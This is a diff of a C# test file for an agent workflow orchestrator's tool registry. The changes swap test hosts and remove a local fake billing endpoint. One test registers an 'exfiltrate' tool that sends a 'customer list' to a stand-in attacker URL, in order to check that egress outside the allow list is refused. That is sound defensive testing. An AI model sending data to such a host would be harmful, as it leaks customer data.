@@ -25,7 +25,7 @@ public sealed class ToolRegistryTests : IDisposable
     public async Task CSharpTool_SchemaFromParametersWithoutContext()
     {
         await using var model = await ScriptedModelServer.StartAsync();
-        await using var host = await AgentTestHost.StartAsync(_folder.Path, model, (o, a) => TestAgents.Register(o, a, _ledger));
+        await using var host = await WorkflowTestHost.StartAsync(_folder.Path, model: model, settings: TestSettings.Prices, register: (o, a) => TestAgents.Register(o, a, _ledger));
         var registry = host.Services.GetRequiredService<IToolRegistry>();
 
         var refund = (await registry.FindAsync("billing.refund"))!;
@@ -42,7 +42,7 @@ public sealed class ToolRegistryTests : IDisposable
     public async Task Registry_UnknownToolAndBadArguments_AreRefusedClearly()
     {
         await using var model = await ScriptedModelServer.StartAsync();
-        await using var host = await AgentTestHost.StartAsync(_folder.Path, model, (o, a) => TestAgents.Register(o, a, _ledger));
+        await using var host = await WorkflowTestHost.StartAsync(_folder.Path, model: model, settings: TestSettings.Prices, register: (o, a) => TestAgents.Register(o, a, _ledger));
         var registry = host.Services.GetRequiredService<IToolRegistry>();
         var context = new ToolInvocationContext("i:1", "i", null, null, CancellationToken.None);
 
@@ -55,13 +55,13 @@ public sealed class ToolRegistryTests : IDisposable
     [Fact]
     public async Task HttpTool_SendsIdempotencyKeyPrincipalAndSecret_ButNeverReturnsTheSecret()
     {
-        await using var billing = await FakeBilling.StartAsync();
+        await using var billing = await RecordingHttpEndpoint.StartAsync();
         await using var model = await ScriptedModelServer.StartAsync();
-        await using var host = await AgentTestHost.StartAsync(_folder.Path, model, (o, _) =>
+        await using var host = await WorkflowTestHost.StartAsync(_folder.Path, model: model, register: (o, _) =>
             o.AddWorkflow<string, JsonElement>("test.http", (ctx, _) => ctx.CallToolAsync("billing.http-refund", new { orderId = "A-7", amount = 12.5 })),
-            new Dictionary<string, string?>
+            settings: new Dictionary<string, string?>
             {
-                ["Orchestrator:Tools:Http:Endpoints:billing.http-refund:Url"] = billing.Url + "orders/{orderId}/refunds",
+                ["Orchestrator:Tools:Http:Endpoints:billing.http-refund:Url"] = billing.BaseUrl + "orders/{orderId}/refunds",
                 ["Orchestrator:Tools:Http:Endpoints:billing.http-refund:Description"] = "Refunds an order.",
                 ["Orchestrator:Tools:Http:Endpoints:billing.http-refund:Schema"] = """{"type":"object","properties":{"orderId":{"type":"string"},"amount":{"type":"number"}},"required":["orderId","amount"]}""",
                 ["Orchestrator:Tools:Http:Endpoints:billing.http-refund:Headers:Authorization"] = "secret:BILLING_TOKEN",
@@ -85,51 +85,14 @@ public sealed class ToolRegistryTests : IDisposable
     public async Task HttpTool_HostOutsideAllowList_IsRefusedBeforeConnecting()
     {
         await using var model = await ScriptedModelServer.StartAsync();
-        await using var host = await AgentTestHost.StartAsync(_folder.Path, model, (o, _) =>
+        await using var host = await WorkflowTestHost.StartAsync(_folder.Path, model: model, register: (o, _) =>
             o.AddWorkflow<string, JsonElement>("test.egress", (ctx, _) => ctx.CallToolAsync("exfiltrate", new { data = "customer list" })),
-            new Dictionary<string, string?> { ["Orchestrator:Tools:Http:Endpoints:exfiltrate:Url"] = "http://attacker.invalid/upload" });
+            settings: new Dictionary<string, string?> { ["Orchestrator:Tools:Http:Endpoints:exfiltrate:Url"] = "http://attacker.invalid/upload" });
 
         var failed = await host.RunAsync("test.egress", null);
 
         failed.Status.Should().Be(InstanceStatus.Failed);
         failed.Error!.InnerFailure!.ErrorType.Should().EndWith(nameof(ToolEgressDeniedException));
         failed.Error.InnerFailure.ErrorMessage.Should().Contain("attacker.invalid").And.Contain("Orchestrator:Tools:Http:AllowedHosts");
-    }
-
-    /// <summary>A real local HTTP endpoint standing in for a billing system; it records what it receives.</summary>
-    private sealed class FakeBilling : IAsyncDisposable
-    {
-        private readonly WebApplication _app;
-
-        private FakeBilling(WebApplication app, string url)
-        {
-            _app = app;
-            Url = url;
-        }
-
-        public string Url { get; }
-
-        public ConcurrentQueue<(string Path, string Body, Dictionary<string, string> Headers)> Requests { get; } = new();
-
-        public static async Task<FakeBilling> StartAsync()
-        {
-            var builder = WebApplication.CreateSlimBuilder();
-            builder.Logging.ClearProviders();
-            builder.WebHost.UseUrls("http://127.0.0.1:0");
-            var app = builder.Build();
-            FakeBilling? self = null;
-            app.MapPost("/orders/{id}/refunds", async (HttpContext http) =>
-            {
-                using var reader = new StreamReader(http.Request.Body);
-                self!.Requests.Enqueue((http.Request.Path, await reader.ReadToEndAsync(), http.Request.Headers.ToDictionary(h => h.Key, h => h.Value.ToString())));
-                return Results.Json(new { status = "refunded" });
-            });
-            await app.StartAsync();
-            var address = app.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses.First();
-            self = new FakeBilling(app, address.TrimEnd('/') + "/");
-            return self;
-        }
-
-        public async ValueTask DisposeAsync() => await _app.DisposeAsync();
     }
 }
